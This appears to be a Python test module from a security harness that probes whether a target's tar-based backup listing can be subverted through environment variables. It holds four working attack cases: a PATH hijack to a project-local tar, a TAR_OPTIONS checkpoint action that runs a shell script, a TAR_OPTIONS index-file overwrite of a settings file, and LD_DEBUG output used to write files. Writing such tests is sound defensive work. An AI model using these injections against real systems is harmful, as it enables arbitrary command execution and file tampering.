"""Attacks by variables of the environment."""

from prover import Target

from .stage import Stage


def attack_search_path(target: Target, stage: Stage) -> bool:
    """Say where programs are to be found: in the project, which has a `tar` of its own."""
    target.list_backup(stage.project, {"PATH": f"{stage.project}/bin:/usr/bin:/bin"})
    print("the customer's script has run:", stage.marked())
    return stage.marked()


def attack_options_in_a_variable(target: Target, stage: Stage) -> bool:
    """Set the variable in which `tar` looks for more options."""
    options = r"--checkpoint=1 --checkpoint-action=exec=sh\ build.sh"
    target.list_backup(stage.project, {"TAR_OPTIONS": options})
    print("the customer's script has run:", stage.marked())
    return stage.marked()


def attack_overwrite_a_file(target: Target, stage: Stage) -> bool:
    """Have the list written into a file of ours."""
    options = "--index-file=../settings.ini"
    target.list_backup(stage.project, {"TAR_OPTIONS": options})
    print("settings.ini:", stage.settings.read_text())
    return "open = no" not in stage.settings.read_text()


def attack_loader(target: Target, stage: Stage) -> bool:
    """Set variables for the loader, which starts before any program: it writes files."""
    loader = {"LD_DEBUG": "libs", "LD_DEBUG_OUTPUT": f"{stage.root}/written"}
    target.list_backup(stage.project, loader)
    written = list(stage.root.glob("written.*"))
    print("files that the loader has written:", len(written))
    return bool(written)
